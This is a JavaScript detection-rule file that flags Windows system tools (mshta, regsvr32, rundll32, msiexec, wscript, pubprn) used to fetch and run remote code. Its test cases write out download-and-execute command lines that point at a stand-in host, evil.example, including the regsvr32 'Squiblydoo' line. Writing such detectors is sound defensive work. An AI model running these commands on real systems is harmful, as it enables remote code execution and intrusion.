import { defineRule, perInvocation } from './rule.js';
import { lowerArgs } from './match.js';

export const rule = defineRule({
  id: 'lolbin_remote_exec',
  category: 'download_execute',
  severity: 'critical',
  technique: 'T1218',
  title: 'Windows system tools that fetch and run remote code (mshta, regsvr32 /i:http, rundll32 javascript:, msiexec http)',
  check: perInvocation((inv) => {
    const a = lowerArgs(inv);
    const p = inv.program;
    if (p === 'mshta' && /(https?:|javascript:|vbscript:|\\\\)/.test(a)) return 'mshta runs an HTML application or script from a remote address';
    if (p === 'regsvr32' && /\/i:\s*(https?:|\\\\)|scrobj/.test(a)) return 'regsvr32 loads a remote scriptlet (the "Squiblydoo" technique)';
    if (p === 'rundll32' && /javascript:|vbscript:|url\.dll|shell32\.dll,\s*shellexec_rundll|https?:/.test(a)) return 'rundll32 runs script or a remote address';
    if (p === 'msiexec' && /https?:\/\//.test(a)) return 'msiexec installs a package straight from a remote address';
    if ((p === 'wscript' || p === 'cscript') && /https?:|\\\\/.test(a)) return `${p} runs a remote script`;
    if (p === 'pubprn' || /pubprn\.vbs/.test(a) && /script:https?/.test(a)) return 'pubprn.vbs runs a remote scriptlet';
    return undefined;
  }),
  cases: {
    positive: [
      ['cmd', 'mshta http://evil.example/a.hta'],
      ['cmd', 'regsvr32 /s /n /u /i:http://evil.example/f.sct scrobj.dll'],
      ['cmd', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)'],
      ['powershell', 'msiexec /q /i http://evil.example/p.msi'],
    ],
    negative: [['cmd', 'msiexec /i C:\\setup\\app.msi /qn'], ['cmd', 'regsvr32 /s mydll.dll']],
  },
});
